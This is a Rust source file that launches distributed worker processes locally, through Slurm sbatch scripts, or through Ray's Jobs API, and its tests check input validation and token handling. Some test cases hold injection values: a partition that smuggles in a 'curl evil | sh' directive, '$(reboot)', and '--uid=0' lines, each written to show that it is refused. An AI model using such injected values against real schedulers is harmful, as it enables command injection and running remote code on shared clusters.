//! Launchers realise a placement: they start the `miles worker` processes of a run and tell the
//! controller when one of them is gone.
//!
//! - [`LocalLauncher`]: child processes on this machine, each pinned to its own CPUs.
//! - [`SlurmLauncher`]: writes an sbatch script with one `srun` step per worker (GPUs through
//!   `--gres`), submits it, watches the job with `scontrol`, cancels it at the end.
//! - [`RayLauncher`]: one Ray job per worker through the Jobs REST API.

use crate::auth::{TOKEN_ENV, TOKEN_FILE_ENV};
use crate::tls::TlsMode;
use crate::E_LAUNCH;
use miles_runtime::RunError;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

/// One worker process to start.
#[derive(Debug, Clone)]
pub struct WorkerLaunch {
    pub worker_id: String,
    pub role: String,
    pub stage: String,
    /// CPUs to pin to (local launcher), or how many (Slurm `--cpus-per-task`).
    pub cpus: Vec<usize>,
    pub gpus: u32,
    pub threads: u32,
}

/// Where workers find the controller, and where they write.
#[derive(Debug, Clone)]
pub struct LaunchEnv {
    /// The `miles` binary (workers run `miles worker ...`).
    pub exe: PathBuf,
    pub controller: String,
    pub token: String,
    /// The run's output directory: workers/<id>.log, workers/<id>/ (local weight copies).
    pub out_dir: PathBuf,
    /// Address workers listen on (loopback unless configured otherwise).
    pub bind_host: String,
    /// The controller's TLS mode, which its workers must share (`--tls`: not a secret).
    pub tls: TlsMode,
}

impl LaunchEnv {
    fn args(&self, w: &WorkerLaunch) -> Vec<String> {
        let mut a = vec![
            "worker".to_string(),
            "--id".into(),
            w.worker_id.clone(),
            "--role".into(),
            w.role.clone(),
            "--stage".into(),
            w.stage.clone(),
            "--controller".into(),
            self.controller.clone(),
            "--bind".into(),
            format!("{}:0", self.bind_host),
            "--local-dir".into(),
            self.out_dir.join("workers").join(&w.worker_id).to_string_lossy().into_owned(),
        ];
        if self.tls == TlsMode::Always {
            a.extend(["--tls".into(), "always".into()]);
        }
        if !w.cpus.is_empty() {
            a.push("--cpus".into());
            a.push(w.cpus.iter().map(|c| c.to_string()).collect::<Vec<_>>().join(","));
        }
        a
    }
}

pub trait Launcher: Send {
    fn name(&self) -> &'static str;
    fn launch(&mut self, env: &LaunchEnv, workers: &[WorkerLaunch]) -> Result<(), RunError>;
    /// Workers known to be gone, with why (a process exited, the job failed).
    fn dead(&mut self) -> Vec<(String, String)>;
    /// Stops whatever is still running (called at the end of the run, also after a failure).
    fn stop(&mut self);
}

/// Child processes on this machine, started by `miles_runtime::child::spawn`: each in a process
/// group of its own (killed as a group at the end), dead with the run, its environment
/// `child::BASE_ENV` and `child::ENGINE_ENV` plus the run token, which only workers get.
#[derive(Default)]
pub struct LocalLauncher {
    children: Vec<(String, miles_runtime::child::GroupChild)>,
}

impl Launcher for LocalLauncher {
    fn name(&self) -> &'static str {
        "local_processes"
    }

    fn launch(&mut self, env: &LaunchEnv, workers: &[WorkerLaunch]) -> Result<(), RunError> {
        let logs = env.out_dir.join("workers");
        std::fs::create_dir_all(&logs).map_err(|e| RunError::io(E_LAUNCH, "cannot create", &logs, e))?;
        for w in workers {
            let log_path = logs.join(format!("{}.log", w.worker_id));
            let log =
                std::fs::File::create(&log_path).map_err(|e| RunError::io(E_LAUNCH, "cannot create", &log_path, e))?;
            let err = log.try_clone().map_err(|e| RunError::io(E_LAUNCH, "cannot open", &log_path, e))?;
            let mut cmd = Command::new(&env.exe);
            cmd.args(env.args(w)).stdin(Stdio::null()).stdout(log).stderr(err);
            let child_env = miles_runtime::child::ChildEnv::engine().with(TOKEN_ENV, &env.token);
            let child = miles_runtime::child::spawn(cmd, &child_env)
                .map_err(|e| RunError::new(E_LAUNCH, format!("cannot start {}: {e}", env.exe.display())))?;
            self.children.push((w.worker_id.clone(), child));
        }
        Ok(())
    }

    fn dead(&mut self) -> Vec<(String, String)> {
        let mut out = Vec::new();
        for (id, c) in &mut self.children {
            if let Ok(Some(st)) = c.try_wait() {
                out.push((id.clone(), format!("process exited with {st}")));
            }
        }
        out
    }

    fn stop(&mut self) {
        // Workers exit on Shutdown or at their next heartbeat; give them a moment, then kill.
        let deadline = std::time::Instant::now() + Duration::from_secs(3);
        for (_, c) in &mut self.children {
            while std::time::Instant::now() < deadline {
                if matches!(c.try_wait(), Ok(Some(_))) {
                    break;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            // Its group, whether it exited or not: what it started goes with it.
            c.kill();
        }
        self.children.clear();
    }
}

impl Drop for LocalLauncher {
    fn drop(&mut self) {
        self.stop();
    }
}

/// Slurm: one batch job, one step per worker.
pub struct SlurmLauncher {
    pub partition: Option<String>,
    pub time_limit: Option<String>,
    /// Extra `#SBATCH` lines (account, constraint, ...).
    pub extra: Vec<String>,
    pub job_id: Option<String>,
    pub script: Option<PathBuf>,
}

impl SlurmLauncher {
    pub fn new(partition: Option<String>) -> Self {
        SlurmLauncher { partition, time_limit: None, extra: Vec::new(), job_id: None, script: None }
    }

    /// The sbatch script (a pure function: tested without Slurm). Values that land in `#SBATCH`
    /// lines are checked first: sbatch reads a directive to the end of its line, unquoted, so a
    /// newline in a partition would add a directive of the recipe's choosing.
    pub fn script(&self, env: &LaunchEnv, workers: &[WorkerLaunch]) -> Result<String, RunError> {
        self.check(env)?;
        let logs = env.out_dir.join("workers");
        let mut s = String::from("#!/bin/bash\n");
        // The job name is cosmetic: anything but a safe character becomes `_`.
        let run = env.out_dir.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_else(|| "run".into());
        let run: String =
            run.chars().map(|c| if c.is_ascii_alphanumeric() || "-_.".contains(c) { c } else { '_' }).collect();
        s.push_str(&format!("#SBATCH --job-name=miles-{run}\n"));
        s.push_str(&format!("#SBATCH --ntasks={}\n", workers.len()));
        let cpus = workers.iter().map(|w| w.cpus.len().max(1)).max().unwrap_or(1);
        s.push_str(&format!("#SBATCH --cpus-per-task={cpus}\n"));
        let gpus: u32 = workers.iter().map(|w| w.gpus).sum();
        if gpus > 0 {
            s.push_str(&format!("#SBATCH --gres=gpu:{gpus}\n"));
        }
        if let Some(p) = &self.partition {
            s.push_str(&format!("#SBATCH --partition={p}\n"));
        }
        if let Some(t) = &self.time_limit {
            s.push_str(&format!("#SBATCH --time={t}\n"));
        }
        for e in &self.extra {
            s.push_str(&format!("#SBATCH {e}\n"));
        }
        s.push_str(&format!("#SBATCH --output={}\n", sh(&logs.join("slurm-%j.out").to_string_lossy())));
        s.push_str("set -u\n");
        // The token travels in the environment (this file is written 0600), not on a command line.
        s.push_str(&format!("export {TOKEN_ENV}={}\n", sh(&env.token)));
        for w in workers {
            let mut step = format!(
                "srun --exact --ntasks=1 --cpus-per-task={} --job-name={} --output={}",
                w.cpus.len().max(1),
                sh(&w.worker_id),
                sh(&logs.join(format!("{}.log", w.worker_id)).to_string_lossy())
            );
            if w.gpus > 0 {
                step.push_str(&format!(" --gres=gpu:{}", w.gpus));
            } else if gpus > 0 {
                // A step without --gres would claim all of the job's GPUs and block the others.
                step.push_str(" --gres=none");
            }
            let mut launch = w.clone();
            launch.cpus.clear(); // Slurm places the step on its CPUs.
            step.push(' ');
            step.push_str(&sh(&env.exe.to_string_lossy()));
            for a in env.args(&launch) {
                step.push(' ');
                step.push_str(&sh(&a));
            }
            s.push_str(&step);
            s.push_str(" &\n");
        }
        s.push_str("wait\n");
        Ok(s)
    }

    /// Refuses what cannot go into a `#SBATCH` line as it is: a partition or time limit outside
    /// Slurm's own characters, and a line break anywhere in a directive or a path.
    fn check(&self, env: &LaunchEnv) -> Result<(), RunError> {
        let refuse = |what: &str, v: &str, allowed: &str| {
            RunError::new(E_LAUNCH, format!("the slurm launcher's {what} {v:?} is not a Slurm {what}"))
                .with_help(format!("a {what} may hold only {allowed}"))
        };
        if let Some(p) = &self.partition {
            if p.is_empty() || !p.chars().all(|c| c.is_ascii_alphanumeric() || "-_.,".contains(c)) {
                return Err(refuse("partition", p, "letters, digits, `-`, `_`, `.` and `,` (several partitions)"));
            }
        }
        if let Some(t) = &self.time_limit {
            let words = ["UNLIMITED", "INFINITE"].iter().any(|w| t.eq_ignore_ascii_case(w));
            if !words && (t.is_empty() || !t.chars().all(|c| c.is_ascii_digit() || c == ':' || c == '-')) {
                return Err(refuse(
                    "time_limit",
                    t,
                    "digits, `:` and `-` (e.g. \"04:00:00\", \"2-00:00:00\") or UNLIMITED",
                ));
            }
        }
        let lines = self.extra.iter().map(|e| ("an extra #SBATCH line", e.clone()));
        let paths = [("the run directory", env.out_dir.to_string_lossy().into_owned())];
        if let Some((what, v)) = lines.chain(paths).find(|(_, v)| v.chars().any(char::is_control)) {
            return Err(RunError::new(
                E_LAUNCH,
                format!("{what} {v:?} holds a line break or control character, which would end its #SBATCH line"),
            ));
        }
        Ok(())
    }
}

/// Single-quotes for the shell.
fn sh(s: &str) -> String {
    if !s.is_empty() && s.chars().all(|c| c.is_ascii_alphanumeric() || "-_./:=,%".contains(c)) {
        s.to_string()
    } else {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}

fn run_cmd(cmd: &mut Command, what: &str, timeout: Duration) -> Result<String, RunError> {
    let mut child = cmd.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().map_err(|e| {
        RunError::new(E_LAUNCH, format!("cannot run {what}: {e}")).with_help("is Slurm installed and on PATH?")
    })?;
    let deadline = std::time::Instant::now() + timeout;
    loop {
        match child.try_wait() {
            Ok(Some(_)) => break,
            Ok(None) if std::time::Instant::now() < deadline => std::thread::sleep(Duration::from_millis(20)),
            _ => {
                let _ = child.kill();
                let _ = child.wait();
                return Err(RunError::new(
                    E_LAUNCH,
                    format!("{what} did not finish within {:.0} s", timeout.as_secs_f64()),
                ));
            }
        }
    }
    let out = child.wait_with_output().map_err(|e| RunError::new(E_LAUNCH, format!("{what}: {e}")))?;
    if !out.status.success() {
        return Err(RunError::new(
            E_LAUNCH,
            format!("{what} failed ({}): {}", out.status, String::from_utf8_lossy(&out.stderr).trim()),
        ));
    }
    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
}

/// `JobState=...` of a job from `scontrol show job -o` (no accounting needed).
pub fn slurm_job_state(job: &str) -> Result<String, RunError> {
    let out = run_cmd(
        Command::new("scontrol").args(["show", "job", "-o", job]),
        "scontrol show job",
        Duration::from_secs(10),
    )?;
    Ok(out.split_whitespace().find_map(|kv| kv.strip_prefix("JobState=")).unwrap_or("UNKNOWN").to_string())
}

impl Launcher for SlurmLauncher {
    fn name(&self) -> &'static str {
        "slurm"
    }

    fn launch(&mut self, env: &LaunchEnv, workers: &[WorkerLaunch]) -> Result<(), RunError> {
        // Refused values stop the launch before anything is written.
        let text = self.script(env, workers)?;
        let dir = env.out_dir.join("workers");
        std::fs::create_dir_all(&dir).map_err(|e| RunError::io(E_LAUNCH, "cannot create", &dir, e))?;
        let path = env.out_dir.join("job.sbatch");
        write_private(&path, &text)?;
        let out = run_cmd(Command::new("sbatch").arg("--parsable").arg(&path), "sbatch", Duration::from_secs(30))?;
        let id = out.trim().split(';').next().unwrap_or("").to_string();
        if id.is_empty() {
            return Err(RunError::new(E_LAUNCH, format!("sbatch printed no job id: {out:?}")));
        }
        eprintln!("miles run: submitted Slurm job {id} ({})", path.display());
        self.job_id = Some(id);
        self.script = Some(path);
        Ok(())
    }

    fn dead(&mut self) -> Vec<(String, String)> {
        let Some(id) = &self.job_id else { return Vec::new() };
        match slurm_job_state(id) {
            Ok(s) if matches!(s.as_str(), "PENDING" | "RUNNING" | "CONFIGURING" | "COMPLETING") => Vec::new(),
            Ok(s) => vec![("*".into(), format!("Slurm job {id} is {s}"))],
            Err(_) => Vec::new(),
        }
    }

    fn stop(&mut self) {
        if let Some(id) = self.job_id.take() {
            let _ = run_cmd(Command::new("scancel").arg(&id), "scancel", Duration::from_secs(10));
        }
    }
}

impl Drop for SlurmLauncher {
    fn drop(&mut self) {
        self.stop();
    }
}

fn write_private(path: &Path, text: &str) -> Result<(), RunError> {
    use std::io::Write;
    use std::os::unix::fs::OpenOptionsExt;
    let tmp = path.with_extension("tmp");
    let res = (|| {
        let mut f = std::fs::OpenOptions::new().write(true).create(true).truncate(true).mode(0o600).open(&tmp)?;
        f.write_all(text.as_bytes())?;
        f.sync_all()?;
        std::fs::rename(&tmp, path)
    })();
    res.map_err(|e| RunError::io(E_LAUNCH, "cannot write", path, e))
}

/// Ray: each worker is a job submitted through the Jobs REST API of the head at `address`
/// (`http://host:8265`). A job's `runtime_env` and submission id are shown to anyone who can see
/// the cluster's jobs, so neither carries the token: it is in a file of the run directory, mode
/// 0600, whose path the job gets (the worker must run as the same user on a file system that
/// shares the run directory, as checkpoints already need).
pub struct RayLauncher {
    pub address: String,
    pub jobs: Vec<(String, String)>,
    /// Makes submission ids unique per run; random, unrelated to the token.
    tag: String,
    token_file: Option<PathBuf>,
}

impl RayLauncher {
    pub fn new(address: &str) -> Self {
        let tag = crate::auth::new_token().map(|t| t[..8].to_string()).unwrap_or_else(|_| {
            let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap_or_default();
            format!("{:x}{:x}", std::process::id(), nanos.subsec_nanos())
        });
        RayLauncher { address: address.trim_end_matches('/').to_string(), jobs: Vec::new(), tag, token_file: None }
    }

    /// Where the run's token is written for its Ray jobs.
    pub fn token_path(env: &LaunchEnv) -> PathBuf {
        let p = env.out_dir.join("workers").join("run.token");
        std::path::absolute(&p).unwrap_or(p)
    }

    /// The request body of one worker's job (a pure function: tested without Ray).
    pub fn job_body(&self, env: &LaunchEnv, w: &WorkerLaunch) -> serde_json::Value {
        let mut parts = vec![sh(&env.exe.to_string_lossy())];
        let mut launch = w.clone();
        launch.cpus.clear();
        parts.extend(env.args(&launch).iter().map(|a| sh(a)));
        let token_file = Self::token_path(env).to_string_lossy().into_owned();
        serde_json::json!({
            "entrypoint": parts.join(" "),
            "submission_id": format!("miles-{}-{}", w.worker_id, self.tag),
            "entrypoint_num_cpus": w.cpus.len().max(1),
            "entrypoint_num_gpus": w.gpus,
            "runtime_env": { "env_vars": { TOKEN_FILE_ENV: token_file } },
        })
    }
}

impl Launcher for RayLauncher {
    fn name(&self) -> &'static str {
        "ray"
    }

    fn launch(&mut self, env: &LaunchEnv, workers: &[WorkerLaunch]) -> Result<(), RunError> {
        let dir = env.out_dir.join("workers");
        std::fs::create_dir_all(&dir).map_err(|e| RunError::io(E_LAUNCH, "cannot create", &dir, e))?;
        let token_file = Self::token_path(env);
        write_private(&token_file, &env.token)?;
        self.token_file = Some(token_file);
        for w in workers {
            let body = self.job_body(env, w);
            let url = format!("{}/api/jobs/", self.address);
            let r = crate::http::post_json(&url, &body, Duration::from_secs(30))
                .map_err(|e| RunError::new(E_LAUNCH, format!("Ray job submission to {url}: {e}")))?;
            let id = r.get("submission_id").and_then(|v| v.as_str()).unwrap_or_default().to_string();
            self.jobs.push((w.worker_id.clone(), id));
        }
        Ok(())
    }

    fn dead(&mut self) -> Vec<(String, String)> {
        let mut out = Vec::new();
        for (w, id) in &self.jobs {
            let url = format!("{}/api/jobs/{id}", self.address);
            if let Ok(v) = crate::http::get_json(&url, Duration::from_secs(5)) {
                let st = v.get("status").and_then(|s| s.as_str()).unwrap_or("");
                if matches!(st, "FAILED" | "STOPPED" | "SUCCEEDED") {
                    out.push((w.clone(), format!("Ray job {id} is {st}")));
                }
            }
        }
        out
    }

    fn stop(&mut self) {
        for (_, id) in self.jobs.drain(..) {
            let url = format!("{}/api/jobs/{id}/stop", self.address);
            let _ = crate::http::post_json(&url, &serde_json::json!({}), Duration::from_secs(5));
        }
        // The token dies with the run; its file goes with it.
        if let Some(f) = self.token_file.take() {
            let _ = std::fs::remove_file(f);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn env() -> LaunchEnv {
        LaunchEnv {
            exe: "/opt/miles/bin/miles".into(),
            controller: "10.0.0.1:4000".into(),
            token: "abcdef0123456789".into(),
            out_dir: "/scratch/runs/grpo arith".into(),
            bind_host: "0.0.0.0".into(),
            tls: TlsMode::Auto,
        }
    }

    fn workers() -> Vec<WorkerLaunch> {
        vec![
            WorkerLaunch {
                worker_id: "trainer-0".into(),
                role: "trainer".into(),
                stage: "train".into(),
                cpus: vec![0, 1],
                gpus: 4,
                threads: 2,
            },
            WorkerLaunch {
                worker_id: "rollout-0".into(),
                role: "rollout".into(),
                stage: "rollout".into(),
                cpus: vec![2],
                gpus: 2,
                threads: 1,
            },
        ]
    }

    #[test]
    fn sbatch_script_has_one_step_per_worker_with_gres() {
        let mut l = SlurmLauncher::new(Some("debug".into()));
        l.time_limit = Some("01:00:00".into());
        let s = l.script(&env(), &workers()).unwrap();
        assert!(s.contains("#SBATCH --ntasks=2\n"), "{s}");
        assert!(s.contains("#SBATCH --gres=gpu:6\n"));
        assert!(s.contains("#SBATCH --partition=debug\n"));
        assert!(s.contains("export MILES_RUN_TOKEN=abcdef0123456789\n"));
        assert_eq!(s.matches("srun ").count(), 2);
        assert!(s.contains("srun --exact --ntasks=1 --cpus-per-task=2 --job-name=trainer-0"));
        let mut cpu_only = workers();
        cpu_only[0].gpus = 0;
        assert!(
            l.script(&env(), &cpu_only).unwrap().contains(" --gres=none "),
            "a CPU step must not take the job's GPUs"
        );
        assert!(s.contains("--gres=gpu:2 /opt/miles/bin/miles worker --id rollout-0 --role rollout"));
        assert!(s.contains("'/scratch/runs/grpo arith/workers/rollout-0'"), "paths with spaces are quoted");
        assert!(!s.contains("--cpus "), "Slurm places steps itself");
        assert!(s.ends_with("wait\n"));
    }

    /// A controller with TLS forced on loopback starts its workers with `--tls always`, whatever
    /// environment a launcher gives them (local processes get an allow-listed one).
    #[test]
    fn forced_tls_reaches_every_launchers_workers() {
        let mut e = env();
        assert!(!e.args(&workers()[0]).contains(&"--tls".to_string()));
        e.tls = TlsMode::Always;
        assert!(e.args(&workers()[0]).windows(2).any(|a| a == ["--tls", "always"]));
        let l = SlurmLauncher::new(None);
        assert!(l.script(&e, &workers()).unwrap().contains("--role trainer --stage train --controller"));
        assert_eq!(l.script(&e, &workers()).unwrap().matches(" --tls always").count(), 2);
        let b = RayLauncher::new("http://h:8265").job_body(&e, &workers()[1]);
        assert!(b["entrypoint"].as_str().unwrap().contains(" --tls always"));
    }

    /// A recipe value with a line break would add an `#SBATCH` directive (or a shell line) of its
    /// own: refused with E0516 before anything is written or submitted.
    #[test]
    fn slurm_values_that_would_inject_a_directive_are_refused() {
        let out = std::env::temp_dir().join(format!("miles-sbatch-inject-{}", std::process::id()));
        let mut e = env();
        e.out_dir = out.clone();
        let mut l = SlurmLauncher::new(Some("debug\n#SBATCH --wrap=\"curl evil | sh\"".into()));
        let err = l.launch(&e, &workers()).unwrap_err();
        assert_eq!(err.code, E_LAUNCH);
        assert!(err.message.contains("partition") && err.message.contains("is not a Slurm partition"), "{err}");
        assert!(!out.exists(), "nothing is written for a refused launch");
        for bad in ["01:00:00\n#SBATCH --uid=0", "1h", "", "$(reboot)"] {
            l.partition = Some("gpu,debug".into());
            l.time_limit = Some(bad.into());
            let err = l.script(&env(), &workers()).unwrap_err();
            assert!(err.message.contains("time_limit"), "{bad:?}: {err}");
        }
        for good in ["30", "04:00:00", "2-00:00:00", "unlimited"] {
            l.time_limit = Some(good.into());
            assert!(l.script(&env(), &workers()).unwrap().contains(&format!("#SBATCH --time={good}\n")));
        }
        l.time_limit = None;
        l.extra = vec!["--account=a\n#SBATCH --uid=0".into()];
        assert!(l.script(&env(), &workers()).unwrap_err().message.contains("extra #SBATCH line"));
        l.extra.clear();
        let mut e = env();
        e.out_dir = "/scratch/run\n#SBATCH --uid=0".into();
        assert!(l.script(&e, &workers()).unwrap_err().message.contains("run directory"));
    }

    #[test]
    fn ray_job_body() {
        let l = RayLauncher::new("http://127.0.0.1:8265/");
        let b = l.job_body(&env(), &workers()[1]);
        assert_eq!(b["entrypoint_num_gpus"], 2);
        assert!(b["entrypoint"].as_str().unwrap().starts_with("/opt/miles/bin/miles worker --id rollout-0"));
        // The whole body is the job's metadata (dashboard, `ray job list`): no byte of the token,
        // nor any 8-character piece of it (the submission id once held one), anywhere in it; the
        // worker gets a private file's path.
        let text = b.to_string();
        let token = env().token;
        for piece in token.as_bytes().windows(8) {
            assert!(!text.contains(std::str::from_utf8(piece).unwrap()), "{piece:?} of the token in {text}");
        }
        assert_eq!(b["runtime_env"]["env_vars"]["MILES_RUN_TOKEN_FILE"], "/scratch/runs/grpo arith/workers/run.token");
        assert!(b["runtime_env"]["env_vars"].get("MILES_RUN_TOKEN").is_none());
        // Two launchers (two runs) never share a submission id.
        assert_ne!(
            b["submission_id"],
            RayLauncher::new("http://h:8265").job_body(&env(), &workers()[1])["submission_id"]
        );
    }

    /// The token file a Ray job reads is private, and goes when the run stops.
    #[test]
    fn ray_token_file_is_private_and_removed_at_stop() {
        use std::os::unix::fs::PermissionsExt;
        let mut e = env();
        e.out_dir = std::env::temp_dir().join(format!("miles-ray-token-{}", std::process::id()));
        // A head that is not there: the launch fails after the token file is written.
        let mut l = RayLauncher::new("http://127.0.0.1:1");
        assert!(l.launch(&e, &workers()).is_err());
        let f = RayLauncher::token_path(&e);
        assert_eq!(std::fs::metadata(&f).unwrap().permissions().mode() & 0o777, 0o600);
        assert_eq!(crate::auth::worker_token(None, Some(f.clone())).unwrap(), e.token);
        l.stop();
        assert!(!f.exists());
        let _ = std::fs::remove_dir_all(&e.out_dir);
    }

    /// A local worker gets the run token and never `MILES_API_KEY`, and what it starts is killed
    /// with it when the run stops.
    #[test]
    fn local_workers_get_the_token_alone_and_die_with_their_group() {
        use std::os::unix::fs::PermissionsExt;
        std::env::set_var("MILES_API_KEY", "secret-key");
        let mut e = env();
        e.out_dir = std::env::temp_dir().join(format!("miles-local-launch-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&e.out_dir);
        std::fs::create_dir_all(&e.out_dir).unwrap();
        // A stand-in for `miles worker`: starts a process of its own, says what it sees, waits.
        let seen = e.out_dir.join("seen");
        let script = format!(
            "#!/bin/sh\nsleep 1000 &\necho \"${{MILES_API_KEY-unset}}|${{MILES_RUN_TOKEN-unset}}|$!\" > {0}.tmp && mv {0}.tmp {0}\nwait\n",
            seen.display()
        );
        e.exe = e.out_dir.join("worker.sh");
        std::fs::write(&e.exe, script).unwrap();
        std::fs::set_permissions(&e.exe, std::fs::Permissions::from_mode(0o755)).unwrap();
        let mut l = LocalLauncher::default();
        l.launch(&e, &workers()[..1]).unwrap();
        let t0 = std::time::Instant::now();
        while !seen.exists() && t0.elapsed() < Duration::from_secs(5) {
            std::thread::sleep(Duration::from_millis(10));
        }
        let text = std::fs::read_to_string(&seen).unwrap();
        let (env_seen, pid) = text.trim().rsplit_once('|').unwrap();
        assert_eq!(env_seen, "unset|abcdef0123456789");
        let alive =
            |pid: &str| std::fs::read_to_string(format!("/proc/{pid}/status")).is_ok_and(|s| !s.contains("State:\tZ"));
        assert!(alive(pid));
        l.stop();
        let t0 = std::time::Instant::now();
        while alive(pid) && t0.elapsed() < Duration::from_secs(2) {
            std::thread::sleep(Duration::from_millis(10));
        }
        assert!(!alive(pid), "the worker's `sleep` {pid} outlived the run's stop");
        let _ = std::fs::remove_dir_all(&e.out_dir);
    }
}
